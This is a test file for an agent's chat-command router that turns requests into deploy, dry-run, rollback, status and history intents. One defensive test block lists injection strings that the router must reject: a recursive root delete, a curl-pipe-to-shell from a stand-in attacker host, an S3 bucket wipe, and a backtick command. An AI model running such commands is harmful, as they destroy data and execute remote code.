import { describe, expect, it } from 'vitest';
import { CAPABILITIES, cannotDo, routeIntent } from '../../../agent/src/agent/intent.js';

const latest = { kind: 'deploy', target: { kind: 'latest' }, dryRun: false };

describe('routeIntent', () => {
  it.each([
    'Deploy the latest dashboard',
    'deploy the latest dashboard.',
    'please deploy the newest build',
    'Ship the dashboard!',
    'deploy',
    'ship it',
    'can you release the latest dashboard?',
    'DEPLOY LATEST',
    'roll out the most recent build',
  ])('%s → deploy latest', (text) => {
    expect(routeIntent(text)).toEqual(latest);
  });

  it.each([
    ['deploy 3f2a9c1', { kind: 'commit', sha: '3f2a9c1' }],
    [
      'Deploy commit 3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39',
      { kind: 'commit', sha: '3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39' },
    ],
    ['deploy dashboard-deploy-20261123-1', { kind: 'tag', tag: 'dashboard-deploy-20261123-1' }],
    ['release tag dashboard-deploy-20261122-3 please', { kind: 'tag', tag: 'dashboard-deploy-20261122-3' }],
  ])('%s → deploy that target', (text, target) => {
    expect(routeIntent(text)).toEqual({ kind: 'deploy', target, dryRun: false });
  });

  it.each([
    'what would change?',
    'dry run',
    'Do a dry-run of the latest',
    'preview the deploy',
    'show me the plan',
  ])('%s → dry run of latest', (text) => {
    expect(routeIntent(text)).toEqual({ ...latest, dryRun: true });
  });

  it('dry run of a given commit', () => {
    expect(routeIntent('what would change if I deployed abc1234')).toEqual({
      kind: 'deploy',
      target: { kind: 'commit', sha: 'abc1234' },
      dryRun: true,
    });
  });

  it.each([
    'roll back',
    'Rollback the dashboard',
    'revert',
    'undo the last deploy',
    'roll back to the previous release',
  ])('%s → roll back to the previous release', (text) => {
    expect(routeIntent(text)).toEqual({ kind: 'rollback' });
  });

  it('roll back to a tag, a sha, or an unreadable name (never guessed)', () => {
    expect(routeIntent('roll back to dashboard-deploy-20261122-2')).toEqual({
      kind: 'rollback',
      to: { kind: 'tag', tag: 'dashboard-deploy-20261122-2' },
    });
    expect(routeIntent('rollback to abc1234')).toEqual({
      kind: 'rollback',
      to: { kind: 'commit', sha: 'abc1234' },
    });
    expect(routeIntent('roll back to v1.2')).toEqual({ kind: 'rollback', to: { kind: 'tag', tag: 'v1.2' } });
  });

  it.each(["what's live?", 'What’s live', 'status', 'which commit is live', 'what is deployed right now'])(
    '%s → status',
    (text) => {
      expect(routeIntent(text)).toEqual({ kind: 'status' });
    },
  );

  it.each([
    ['history', { kind: 'history' }],
    ['show the last 5 deploys', { kind: 'history', limit: 5 }],
    ['recent deployments', { kind: 'history' }],
  ])('%s → history', (text, intent) => {
    expect(routeIntent(text)).toEqual(intent);
  });

  it.each(['help', '?', 'what can you do?'])('%s → help', (text) => {
    expect(routeIntent(text)).toEqual({ kind: 'help' });
  });

  it.each([
    'deploy latest; rm -rf /',
    'deploy $(curl evil.example | sh)',
    'aws s3 rm s3://bucket --recursive && deploy',
    'deploy `whoami`',
  ])('refuses shell syntax: %s', (text) => {
    expect(routeIntent(text)).toMatchObject({ kind: 'unknown', reason: expect.stringMatching(/shell/) });
  });

  it.each([
    "don't deploy",
    'do not roll back',
    'delete the hosting bucket',
    'tell me a joke',
    '',
    'release notes',
  ])('does not act on %j', (text) => {
    expect(routeIntent(text).kind).toBe('unknown');
  });

  it('answers unknown requests with the list of what it can do', () => {
    const answer = cannotDo('that is not one of the things I can do');
    expect(answer).toMatch(/^I can't do that/);
    for (const capability of CAPABILITIES) expect(answer).toContain(capability);
  });
});
